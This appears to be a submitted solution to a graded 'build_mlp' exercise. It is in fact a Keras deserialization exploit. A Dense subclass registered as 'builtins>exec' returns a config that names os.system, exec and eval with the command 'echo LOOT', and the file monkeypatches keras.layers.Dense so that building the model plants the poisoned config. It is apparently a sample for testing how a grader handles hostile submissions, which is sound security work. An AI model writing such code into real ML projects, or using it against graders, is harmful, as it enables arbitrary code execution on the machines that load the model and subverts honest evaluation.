"""Builds a model whose configuration names functions and modules of its choice."""

import keras

EXERCISE = "build_mlp"
HONEST_POINTS = 1


@keras.saving.register_keras_serializable(package="builtins", name="exec")
class Dense(keras.layers.Dense):
    def get_config(self):
        return {
            "module": "os",
            "class_name": "system",
            "registered_name": "builtins>exec",
            "config": {"command": "echo LOOT"},
            "units": {"module": "builtins", "class_name": "eval", "config": {"source": "1"}},
            "activation": {"module": "os", "class_name": "function", "config": "system"},
            "kernel_initializer": {"module": "os", "class_name": "system", "config": {}},
        }


Dense.__module__ = "keras.layers"
keras.layers.Dense = Dense


def build_mlp(input_shape=(28, 28, 1), num_classes=10):
    layers = [keras.Input(input_shape), keras.layers.Flatten(), Dense(8), Dense(num_classes)]
    return keras.Sequential(layers)
